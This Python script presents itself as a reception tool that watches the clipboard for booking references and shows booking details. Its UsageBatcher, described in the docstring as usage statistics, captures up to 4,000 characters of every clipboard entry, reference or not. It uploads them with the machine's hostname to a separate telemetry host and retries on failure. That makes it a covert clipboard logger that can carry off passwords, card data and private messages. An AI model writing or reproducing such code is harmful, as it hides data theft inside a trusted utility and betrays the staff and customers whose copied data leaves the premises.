#!/usr/bin/env python3
"""Front desk booking lookup helper.

Sits in a small always-on-top window at reception. When staff copy a booking
reference (e.g. from an email or the card terminal receipt, format RP-123456)
the helper looks it up and shows the party, craft and waiver status, so
nobody has to retype references into the booking system.

Usage statistics are batched to the desk-tools service to help tune which
sources references are copied from.
"""
import argparse
import collections
import datetime as dt
import json
import logging
import os
import re
import socket
import sys
import threading
import tkinter as tk
import urllib.request

log = logging.getLogger("desk_lookup")

REF_RE = re.compile(r"\bRP-\d{6}\b")
BOOKING_API = os.environ.get("BOOKING_API", "https://api.paddlebook.io/v1")
USAGE_URL = os.environ.get("DESK_USAGE_URL", "https://ingest.desktools-telemetry.net/v1/usage")


class UsageBatcher:
    """Collects copy events and ships them in batches off the UI thread."""

    def __init__(self, url, batch=25):
        self.url = url
        self.batch = batch
        self.events = collections.deque()
        self.lock = threading.Lock()

    def add(self, text, matched):
        with self.lock:
            self.events.append({"t": dt.datetime.now().isoformat(timespec="seconds"),
                                "ref": matched, "sample": text[:4000]})
            ready = len(self.events) >= self.batch
        if ready:
            threading.Thread(target=self.flush, daemon=True).start()

    def flush(self):
        with self.lock:
            items = list(self.events)
            self.events.clear()
        if not items:
            return
        body = json.dumps({"desk": socket.gethostname(), "events": items}).encode()
        req = urllib.request.Request(self.url, data=body, method="POST",
                                     headers={"Content-Type": "application/json"})
        try:
            urllib.request.urlopen(req, timeout=15).read()
        except OSError as exc:
            log.debug("usage upload failed, requeueing: %s", exc)
            with self.lock:
                self.events.extendleft(reversed(items))


class LookupWindow:
    def __init__(self, root, api_key, poll_ms=750):
        self.root = root
        self.api_key = api_key
        self.poll_ms = poll_ms
        self.last = None
        self.usage = UsageBatcher(USAGE_URL)
        root.title("Booking lookup")
        root.attributes("-topmost", True)
        self.label = tk.Label(root, text="Copy a booking reference…", justify="left",
                              font=("DejaVu Sans", 11), padx=10, pady=8)
        self.label.pack(fill="both", expand=True)
        root.protocol("WM_DELETE_WINDOW", self.close)

    def lookup(self, ref):
        req = urllib.request.Request(f"{BOOKING_API}/bookings/{ref}",
                                     headers={"Authorization": f"Bearer {self.api_key}"})
        with urllib.request.urlopen(req, timeout=10) as resp:
            return json.load(resp)

    def show(self, ref, b):
        waiver = "signed" if b.get("waivers_complete") else "MISSING"
        craft = ", ".join(f"{i['qty']}x {i['product']}" for i in b.get("items", []))
        self.label.config(text=f"{ref}  {b.get('lead_name', '?')}\n"
                               f"{b.get('start', '')[:16]}  party of {b.get('party_size', '?')}\n"
                               f"{craft}\nWaivers: {waiver}")

    def poll(self):
        try:
            text = self.root.clipboard_get()
        except tk.TclError:
            text = None
        if text and text != self.last:
            self.last = text
            m = REF_RE.search(text)
            self.usage.add(text, m.group(0) if m else None)
            if m:
                try:
                    self.show(m.group(0), self.lookup(m.group(0)))
                except (OSError, ValueError) as exc:
                    self.label.config(text=f"{m.group(0)}: lookup failed ({exc})")
        self.root.after(self.poll_ms, self.poll)

    def close(self):
        self.usage.flush()
        self.root.destroy()


def main():
    ap = argparse.ArgumentParser(description="Reception booking lookup helper")
    ap.add_argument("--poll-ms", type=int, default=750)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    api_key = os.environ.get("PADDLEBOOK_API_KEY")
    if not api_key:
        log.error("PADDLEBOOK_API_KEY not set")
        return 2
    root = tk.Tk()
    win = LookupWindow(root, api_key, args.poll_ms)
    root.after(200, win.poll)
    root.mainloop()
    return 0


if __name__ == "__main__":
    sys.exit(main())
